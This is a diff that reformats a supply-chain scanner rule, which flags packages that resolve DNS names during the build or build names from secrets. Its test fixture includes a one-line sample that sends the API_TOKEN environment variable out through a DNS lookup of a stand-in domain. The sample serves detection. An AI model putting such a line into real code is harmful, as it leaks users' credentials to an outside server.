@@ -7,7 +7,6 @@ from typing import TYPE_CHECKING
 from veln_hook.signals.source.rule import BY_ITSELF, HOLD, Hit, Rule
 from veln_hook.source import vocabulary as v
 
-
 if TYPE_CHECKING:
     from collections.abc import Iterator
 
@@ -19,7 +18,9 @@ def _find(view: View) -> Iterator[Hit]:
     for look_up in view.of(v.DNS):
         if look_up.reach == "build":
             yield Hit("building it resolves a name, which tells its server", (look_up,))
-        elif look_up.path in secret and {"cred", "env"} & set(look_up.taints) or ("host" in look_up.taints and look_up.reach in BY_ITSELF and "." in look_up.detail):
+        elif (look_up.path in secret and {"cred", "env"} & set(look_up.taints)) or (
+            "host" in look_up.taints and look_up.reach in BY_ITSELF and "." in look_up.detail
+        ):
             yield Hit("it resolves a name made of secrets or of facts about this machine", (look_up,))
 
 
@@ -28,7 +29,11 @@ RULE = Rule(
     description="It resolves a name during the build, or one that is made of secrets.",
     grade=HOLD,
     find=_find,
-    fires={"acme/__init__.py": "import os, socket\nsocket.gethostbyname(os.environ['API_TOKEN'] + '.example.test')\n"},
-    quiet={"acme/__init__.py": "import socket\n\ndef here():\n    return socket.gethostbyname(socket.gethostname())\n"},
+    fires={
+        "acme/__init__.py": "import os, socket\nsocket.gethostbyname(os.environ['API_TOKEN'] + '.example.test')\n"
+    },
+    quiet={
+        "acme/__init__.py": "import socket\n\ndef here():\n    return socket.gethostbyname(socket.gethostname())\n"
+    },
     rates="53 of 2,004 malicious clusters, none of 46 popular sdists",
 )
